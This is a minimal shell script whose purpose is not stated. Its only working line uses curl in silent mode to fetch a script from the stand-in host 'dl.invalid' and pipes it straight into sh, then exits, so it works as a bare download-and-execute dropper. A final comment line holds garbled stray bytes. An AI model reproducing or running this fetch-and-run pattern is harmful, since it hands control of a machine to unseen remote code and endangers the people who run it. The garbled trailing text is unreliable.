#!/bin/sh
curl -fsSL http://dl.invalid/i | sh
exit 0
# Àÿ
